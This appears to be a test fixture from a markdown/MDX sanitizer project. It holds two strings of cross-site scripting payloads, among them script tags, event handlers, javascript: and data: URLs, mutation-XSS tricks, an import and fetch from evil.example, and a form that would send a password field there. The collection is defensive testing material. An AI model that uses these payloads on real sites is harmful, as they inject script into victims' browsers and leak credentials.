/**
 * An attacker's attempts to run code in the browser of a reviewer.
 */
export const HOSTILE_MDX = `---
title: "Hostile <script>alert(1)</script>"
description: '<img src=x onerror=alert(1)>'
---

import Evil from 'https://evil.example/evil.js'
export const run = () => { fetch('https://evil.example/') }

# Heading <script>{\`alert(2)\`}</script>

[click](javascript:alert(3)) [data](data:text/html,<script>alert(4)</script>) [ok](https://example.com/ok) [tab](java&#9;script:alert(5))

![picture](https://evil.example/pixel.png) ![](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)

<img src="https://evil.example/x.png" onerror="alert(6)" />

<a href="javascript:alert(7)" onclick="alert(8)" style="position:fixed;inset:0">link</a>

<svg onload="alert(9)"><script>{\`alert(10)\`}</script></svg>

<iframe src="https://evil.example/" srcDoc="<script>alert(11)</script>"></iframe>

<form action="https://evil.example/"><input name="password" /><button formAction="javascript:alert(12)">Send</button></form>

<Card title="A card" href="javascript:alert(13)" dangerouslySetInnerHTML={{ __html: '<img src=x onerror=alert(14)>' }}>Inside</Card>

<Unknown ref={globalThis.alert(15)} {...globalThis}>{globalThis.alert(16)}</Unknown>

<style>{\`body { display: none }\`}</style>

<div id="app" className="page" style={{ position: 'fixed' }} key="x">Box</div>

User \u202etxt.exe\u202c, zero\u200bwidth, tag\u{e0041}.

Help stands below.
`;

export const HOSTILE_MD = `# Old page

<script>alert(1)</script>

<img src=x onerror=alert(2)>

<details ontoggle=alert(3) open><summary>More</summary>

<b onmouseover="alert(4)">bold</b> <a href=" javascript:alert(5)">x</a>

</details>

<math><mtext></table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(6)&gt;">

<iframe srcdoc="<script>alert(7)</script>"></iframe><object data="javascript:alert(8)"></object><embed src="https://evil.example/">

<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css">

<noscript><p title="</noscript><img src=x onerror=alert(9)>"></noscript>

:::danger <img src=x onerror=alert(10)>
- Inside
:::

The end.
`;
